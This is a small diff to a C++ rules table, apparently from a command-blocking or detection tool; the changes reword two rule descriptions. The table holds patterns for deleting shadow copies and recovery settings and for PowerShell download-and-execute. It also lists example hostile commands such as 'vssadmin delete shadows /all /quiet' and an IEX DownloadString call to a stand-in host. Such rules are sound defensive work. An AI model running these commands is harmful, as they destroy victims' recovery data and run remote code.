@@ -45,7 +45,7 @@ constexpr Rule kRules[] = {
      "disable-computerrestore|remove-computerrestorepoint\n"
      "fsutil *usn|deletejournal|setzerodata\n"
      "schtasks *systemrestore",
-     "removes the ways back: shadow copies, backups, recovery", "",
+     "deletes shadow copies, backups and recovery", "",
      "vssadmin delete shadows /all /quiet\n"
      "bcdedit /set {default} recoveryenabled no",
      "vssadmin list shadows"},
@@ -69,7 +69,7 @@ constexpr Rule kRules[] = {
      "(text) *frombase64string *iex|invoke-expression|[reflection.assembly]|assembly]::load|start-process|invoke\n"
      "(text) *reflection.assembly|assembly]::load *download|frombase64|readallbytes\n"
      "(text) *gzipstream|deflatestream|-bxor|[char[]]|-join *iex|invoke",
-     "fetches code from elsewhere and runs it, or fetches it in a way made to be overlooked",
+     "fetches code from elsewhere and runs it, or fetches it in a way that avoids detection",
      "Invoke-WebRequest -OutFile, then look at it",
      "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')\n"
      "certutil -urlcache -split -f http://x.example/a.exe a.exe\n"
